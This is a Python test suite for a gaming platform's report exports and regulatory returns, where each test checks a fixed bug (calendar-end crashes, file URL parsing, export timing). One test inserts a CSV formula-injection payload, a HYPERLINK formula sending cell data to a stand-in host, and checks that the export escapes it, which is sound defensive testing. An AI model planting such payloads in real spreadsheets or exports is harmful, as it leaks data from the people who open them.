"""An adversarial review of reports, exports and returns: each test is a bug found and fixed.

- a period at the end of the calendar (9999-12) crashed the return filing with a ValueError;
- a report over the last days of the calendar crashed with an OverflowError instead of BAD_USER_INPUT;
- a game or provider name starting with `=`, `+`, `-` or `@` went into a CSV export as a formula;
- `file://exports/daily` wrote to /daily (the "exports" read as a host);
- a scheduled export of a day was taken before the reports consumer had applied that day's events,
  and, the day being marked done, never taken again.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import uuid
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import asyncpg
import pytest

from core.clock import clock
from core.errors import DomainError
from services.reports import exports, returns, schedule
from services.reports.tables import Format
from tests.conftest import DATABASE_URL, error_codes
from tests.providers.conftest import Aggregator
from tests.reports.conftest import EUR, Reports, play, seated
from tests.rg.conftest import licensed_brand
from tests.test_startup_and_cli import run_cli

FILE = """mutation($input: FileRegulatoryReturnInput!) {
  fileRegulatoryReturn(input: $input) { regulatoryReturn { revision } errors { code field message } }
}"""
FIGURES = """query($start: Date!, $end: Date!, $period: ReportPeriod!) {
  reportFigures(start: $start, end: $end, period: $period) { start }
}"""


async def test_a_return_for_the_last_month_of_the_calendar_is_refused_not_crashed(
    rt: Any, gql: Any, make_staff: Any
) -> None:
    await licensed_brand(rt, "nordic", ["UK", "SE"], ["GB", "SE"], ["GBP", "SEK"])
    finance = await make_staff(("finance", "nordic"))
    for template, period in (("se-gaming-tax-monthly", "9999-12"), ("uk-ggy-quarterly", "9999-Q4")):
        body = await gql(FILE, {"input": {"template": template, "period": period}}, token=finance.token)
        assert "errors" not in body, body
        [error] = body["data"]["fileRegulatoryReturn"]["errors"]
        assert error["field"] == "period"


@pytest.mark.parametrize("period", ["DAY", "WEEK", "MONTH", "RANGE"])
async def test_a_report_at_the_end_of_the_calendar_is_bad_input(gql: Any, make_staff: Any, period: str) -> None:
    finance = await make_staff("finance")
    body = await gql(FIGURES, {"start": "9999-12-20", "end": "9999-12-31", "period": period}, token=finance.token)
    assert error_codes(body) == ["BAD_USER_INPUT"], body


async def test_a_game_named_like_a_formula_is_text_in_the_csv_export(rt: Any, make_player: Any) -> None:
    player = await make_player()
    day = clock.now().date() - timedelta(days=1)
    conn = await asyncpg.connect(DATABASE_URL)
    try:
        brand = await conn.fetchval("SELECT brand_id FROM players WHERE id = $1", player.uuid)
        await conn.execute(
            "INSERT INTO report_game_days (day, brand_id, currency, provider, game, jurisdiction, stakes_cash, "
            "stakes_bonus, wins_cash, wins_bonus, bet_count, win_count, rollback_count, stakes_rolled_back, "
            "wins_rolled_back) VALUES ($1, $2, 'EUR', '@evil', $3, '', 100, 0, 0, 0, 1, 0, 0, 0, 0)",
            day,
            brand,
            '=HYPERLINK("http://x.example/?"&A1,"click")',
        )
        async with rt.database.session() as db:
            games = exports.ExportKind.GAMES
            made = await exports.export(db, games, brands=[brand], start=day, end=day, fmt=Format.CSV)
        [row] = list(csv.DictReader(io.StringIO(made.content().decode())))
        assert row["game"] == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
        assert row["provider"] == "'@evil"
        assert row["ggr"] == "100"  # numbers untouched
    finally:
        await conn.execute("DELETE FROM report_game_days WHERE brand_id = $1", brand)
        await conn.close()


def test_a_folder_url_with_a_host_is_refused() -> None:
    with pytest.raises(DomainError, match="file:///"):
        schedule.Schedule.parse({"kind": "games", "destination": "file://exports/daily"})
    schedule.Schedule.parse({"kind": "games", "destination": "file:///srv/exports"})  # an absolute folder: fine


async def test_a_scheduled_export_waits_for_the_day_to_be_projected(
    rt: Any, reports: Reports, make_player: Any, hub88_provider: Any, aggregator: Aggregator, tmp_path: Path
) -> None:
    await reports.drain()  # what other fixtures left behind
    clock.advance(timedelta(days=-1))
    player = await make_player(balance="50.00 EUR")
    seat = await seated(rt, hub88_provider, player)
    await play(aggregator, seat, 10 * EUR, round_ref=f"late-{uuid.uuid4()}")
    day: date = clock.now().date()
    clock.reset()
    folder = tmp_path / "exports"
    settings = rt.settings.model_copy(
        update={
            "report_exports": [{"kind": "games", "format": "csv", "destination": str(folder)}],
            "report_export_catch_up_days": 1,
        }
    )
    scheduled = dataclasses.replace(rt, settings=settings)
    assert await schedule.run_due(scheduled) == []  # the bet is not in the projection yet: not now
    await reports.drain()
    [done] = await schedule.run_due(scheduled)
    assert (done.day, done.rows) == (day, 1)
    [row] = list(csv.DictReader(io.StringIO((folder / f"croupier-games-{day}-{day}.csv").read_text())))
    assert row["stakes_cash"] == "1000"


async def test_a_fully_rolled_back_day_needs_no_rate(rt: Any) -> None:
    """A UK player's euro bet rolled back the same day leaves a row of zeros: the return owes nothing in
    euros that day, so no EUR rate is needed (`require` says so; the conversion asked anyway)."""
    brand = await licensed_brand(rt, "albion", ["UK"], ["GB"], ["GBP", "EUR"])
    day = date(2026, 1, 15)
    conn = await asyncpg.connect(DATABASE_URL)
    try:
        await conn.execute(
            "INSERT INTO report_game_days (day, brand_id, currency, provider, game, jurisdiction, stakes_cash, "
            "stakes_bonus, wins_cash, wins_bonus, bet_count, win_count, rollback_count, stakes_rolled_back, "
            "wins_rolled_back) VALUES ($1, $2, 'EUR', 'hub88', 'g', 'UK', 0, 0, 0, 0, 1, 0, 1, 1000, 0)",
            day,
            brand.id,
        )
        async with rt.database.session() as db:
            template = returns.template("uk-ggy-quarterly")
            content = await returns.figures(db, template, brand, date(2026, 1, 1), date(2026, 3, 31))
        lines = [(row["line"], row["stakes"], row["ggy"]) for row in csv.DictReader(io.StringIO(content.decode()))]
        assert lines == [("unknown", "0", "0"), ("total", "0", "0")]
    finally:
        await conn.execute("DELETE FROM report_game_days WHERE brand_id = $1", brand.id)
        await conn.close()


async def test_check_returns_names_a_return_it_cannot_generate_again(rt: Any) -> None:
    """A template renamed in returns.toml after a filing: the check says which return, not a traceback."""
    brand = await licensed_brand(rt, "albion", ["UK"], ["GB"], ["GBP"])
    conn = await asyncpg.connect(DATABASE_URL)
    try:
        await conn.execute(
            "INSERT INTO regulatory_returns (id, template, jurisdiction, brand_id, period_start, period_end, "
            "revision, content, sha256, generated_at, generated_by_type) VALUES ($1, 'uk-ggy-2025', 'UK', $2, "
            "'2026-01-01', '2026-03-31', 1, $3, $4, now(), 'system')",
            uuid.uuid4(),
            brand.id,
            b"x\n",
            "0" * 64,
        )
    finally:
        await conn.close()
    checked = run_cli("reports", "check-returns")
    assert checked.returncode == 1, checked.stderr
    assert "uk-ggy-2025 2026-01-01 r1: CANNOT GENERATE AGAIN (No return template 'uk-ggy-2025'" in checked.stdout
    assert "Traceback" not in checked.stderr
